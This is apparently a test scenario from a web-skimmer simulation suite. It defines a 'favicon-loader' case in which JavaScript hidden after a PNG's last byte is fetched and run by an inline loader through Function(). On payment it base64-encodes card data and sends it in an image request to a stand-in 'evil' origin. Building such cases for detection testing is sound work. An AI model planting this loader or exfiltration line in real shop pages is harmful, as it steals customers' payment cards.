import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

export default skimmer({
  id: 'favicon-loader',
  why: 'The skimmer lies behind the last byte of an icon; a line in the page fetches the icon and runs the rest (published 2020).',
  covers: ['injection: favicon', 'obfuscation: eval', 'disguise: file ending', 'injection: loader'],
  base: 'direct',
  install: (site) => {
    const hidden = onPay(
      js`new Image().src = '${site.origins.evil}/ico.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    site.serve('shop/media/favicon.png', { body: Buffer.concat([PNG, Buffer.from(`\n/*%*/${hidden}`)]) });
    site.inline(
      js`fetch('/media/favicon.png').then(function (r) { return r.text(); }).then(function (t) { Function(t.split('/*%*/')[1])(); });`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
